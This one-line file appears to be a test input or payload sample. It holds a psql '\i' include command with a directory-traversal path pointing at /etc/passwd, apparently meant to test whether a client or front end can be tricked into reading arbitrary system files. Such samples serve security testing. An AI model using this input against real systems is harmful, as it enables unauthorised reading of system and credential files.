\i ../../../../../../etc/passwd
